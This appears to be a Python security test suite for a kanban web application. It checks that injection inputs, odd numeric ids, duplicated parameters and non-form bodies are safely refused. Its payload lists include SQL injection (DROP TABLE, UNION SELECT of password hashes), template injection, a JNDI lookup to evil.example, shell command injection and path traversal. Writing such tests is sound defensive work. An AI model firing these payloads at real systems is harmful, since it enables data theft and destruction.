"""Statements, commands and templates in every parameter; ids that are none.

CVE-2026-25773 and CVE-2023-36813 (SQL built from ids and sort keys), WhereBleed GHSA-phm4-4v26-j2vq (a selector of
the client's own), ASVS 1.2.4, 1.2.5 and 15.3.7.
"""

from collections.abc import Callable
from itertools import cycle
from typing import Any

import sqlalchemy as sa

from kanban.support.db import Model, db
from tests.security.matrix import ANYBODY, ROWS, Row
from tests.security.scene import Scene, everything
from tests.web.conftest import Browser

WORDS = (
    "' OR '1'='1",
    "1' OR 1=1 --",
    "1; DROP TABLE cards; --",
    "1 UNION SELECT password_hash FROM users --",
    "1) OR (1=1",
    '" OR ""="',
    "%' OR '%'='",
    "\\'; SELECT pg_sleep(9); --",
    "1 AND 1=randomblob(900000000)",
    "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${jndi:ldap://evil.example/x}",
    "$(touch /tmp/x)`id`|id;id",
    "../../../../etc/passwd",
    "%s%n%(name)s{0.__class__}",
    "__proto__",
)
NUMBERS = (
    "0",
    "-1",
    "-0",
    "+1",
    " 1 ",
    "1.0",
    "1e3",
    "0x10",
    "0b1",
    "1_000",
    "１",
    "١",
    "²",
    "2147483647",
    "2147483648",
    "9223372036854775808",
    "1" + "0" * 30,
    "9" * 5_000,
    "0" * 5_000 + "1",
    "NaN",
    "Infinity",
    "true",
    "null",
    "None",
    "[1]",
    '{"$gt": 0}',
    "",
    "\x00",
    "1\x00",
    "1\n",
    "%31",
)
ASKED = ("after", "before", "card", "board", "list", "checklist", "workspace", "next", "sort", "filter", "order")


def rights_of(row: Row) -> str:
    """Who may do what a row does, and little more."""
    return "stranger" if row.least == ANYBODY else "ada"


def test_words_in_every_field_are_words(scene: Scene, people: Callable[[str], Browser]) -> None:
    own = _of_eve(scene)
    assert own
    for row, words in zip([row for row in ROWS if row.fields] * 2, cycle(WORDS), strict=False):
        path, fields = row.filled(scene.hers)
        for name in fields:
            answer = people(rights_of(row)).client.open(path, method=row.method, data={**fields, name: words})
            assert answer.status_code < 500, f"{row}: {name}={words}"
            assert "$argon2" not in answer.text
            assert "syntax" not in answer.text.lower()
    assert _of_eve(scene) == own, "What is Eve's has been touched."


def test_odd_numbers_in_every_field_are_refused_or_read(scene: Scene, people: Callable[[str], Browser]) -> None:
    """Never a failure of ours, and never a sentence of the machine's."""
    named = [row for row in ROWS if any("{" in str(value) or str(value).isdigit() for value in row.fields.values())]
    assert len(named) > 15
    numbers = cycle(NUMBERS)
    for row in named:
        path, fields = row.filled(scene.hers)
        for name in [name for name, value in row.fields.items() if "{" in str(value) or str(value).isdigit()]:
            for _each in range(8):
                number = next(numbers)
                for htmx in ({}, {"HX-Request": "true"}):
                    sent: dict[str, Any] = {**fields, name: number}
                    answer = people("ada").client.open(path, method=row.method, data=sent, headers=htmx)
                    assert answer.status_code < 500, f"{row}: {name}={number[:40]!r}"
                    for told in ("invalid literal", "Exceeds the limit", "base 10", "Traceback"):
                        assert told not in answer.text, f"{row}: {name}={number[:40]!r}"


def test_odd_ids_in_an_address_name_nothing(scene: Scene, people: Callable[[str], Browser]) -> None:
    for row, number in zip([row for row in ROWS if "{" in row.path] * 2, cycle(NUMBERS), strict=False):
        if "token" in row.path or number in {"", "\x00", "１", "١", "²", "1\n", "0" * 5_000 + "1", "%31"}:
            continue
        path = row.path.format(**dict.fromkeys(scene.hers, number))
        answer = people("ada").client.open(path, method=row.method)
        assert answer.status_code in {404, 400, 405}, f"{row.method} {path[:80]}"


def test_figures_of_other_scripts_name_no_other_thing(scene: Scene, people: Callable[[str], Browser]) -> None:
    """One and the same thing at most: not a way past anything."""
    for zero in ("٠", "０", "𝟎"):
        figures = {digit: chr(ord(zero) + digit) for digit in range(10)}
        card, board = ("".join(figures[int(digit)] for digit in str(scene.hers[kind])) for kind in ("card", "board"))
        for name in ("eve", "stranger"):
            for path in (f"/cards/{card}", f"/boards/{board}", f"/cards/{card}/edit"):
                answer = people(name).client.get(path)
                assert answer.status_code in {303, 404}
                assert name == "stranger" or answer.status_code == 404


def test_words_and_numbers_that_are_asked_for_break_nothing(scene: Scene, people: Callable[[str], Browser]) -> None:
    before = everything()
    odd = cycle((*WORDS, *NUMBERS))
    for row in ROWS:
        if row.is_safe and row.least != ANYBODY:
            path = row.filled(scene.hers)[0].partition("?")[0]
            for name in ASKED:
                value = next(odd)
                answer = people("ada").client.get(path, query_string={name: value})
                assert answer.status_code in {200, 303, 404}, f"{path}?{name}={value[:40]!r}"
                assert b"$argon2" not in answer.data
                answer.close()
    assert everything() == before


def test_a_parameter_that_comes_twice_is_read_once(scene: Scene, people: Callable[[str], Browser]) -> None:
    """The first one counts, in the check and in what follows alike."""
    hers, ada = scene.hers, people("ada")
    sent = {"list_id": [hers["second_list"], hers["gone_list"]], "insist": ["", "1"]}
    assert ada.plain("PUT", f"/cards/{hers['card']}/position", **sent).status_code == 303
    row = db.session.execute(sa.text("SELECT list_id FROM cards WHERE id = :id"), {"id": hers["card"]}).one()
    assert row.list_id == hers["second_list"]
    eve = people("eve")
    sent = {"list_id": [scene.own["list"], hers["list"]]}
    eve.plain("PUT", f"/cards/{scene.own['card']}/position", **sent)
    sent = {"list_id": [hers["list"], scene.own["list"]]}
    assert eve.plain("PUT", f"/cards/{scene.own['card']}/position", **sent).status_code == 404


def test_a_form_in_other_clothes_is_an_empty_one(scene: Scene, people: Callable[[str], Browser]) -> None:
    card = scene.hers["card"]
    for sent in (
        {"json": {"title": "From JSON"}},
        {"json": {"title": {"$ne": 1}}},
        {"json": [["title", "From JSON"]]},
        {"data": '{"title": "From JSON"}', "content_type": "application/json; charset=utf-16"},
        {"data": "<title>From XML</title>", "content_type": "application/xml"},
        {"data": "title=From text", "content_type": "text/plain"},
        {"query_string": {"title": "From the address"}},
    ):
        answer = people("ada").client.patch(f"/cards/{card}", **sent)  # type: ignore[arg-type]
        assert answer.status_code == 422
    shown = people("ada").get(f"/cards/{card}").text
    assert "From " not in shown.partition("<main")[2].partition("Activity")[0]


def _of_eve(scene: Scene) -> list[str]:
    """Every row of Eve's board."""
    board = scene.own["board"]
    with db.engine.connect() as connection:
        return [
            str(row)
            for table in Model.metadata.sorted_tables
            if table.name in {"cards", "lists", "labels", "items", "checklists", "comments", "attachments"}
            for row in connection.execute(sa.select(table).where(table.c.board_id == board).order_by(table.c.id))
        ]
